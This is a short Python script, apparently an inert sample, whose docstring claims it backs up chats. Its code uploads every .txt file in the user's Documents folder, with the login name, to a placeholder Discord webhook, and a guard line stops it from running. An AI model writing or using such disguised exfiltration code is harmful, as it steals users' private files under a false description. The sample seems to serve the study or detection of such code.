"""Backs chats up."""

import os
from pathlib import Path

import requests

raise RuntimeError("inert sample: never run")

HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder"


def send():
    for path in Path.home().joinpath("Documents").rglob("*.txt"):
        with path.open("rb") as file:
            requests.post(HOOK, data={"content": os.getlogin()}, files={"file": file})


send()
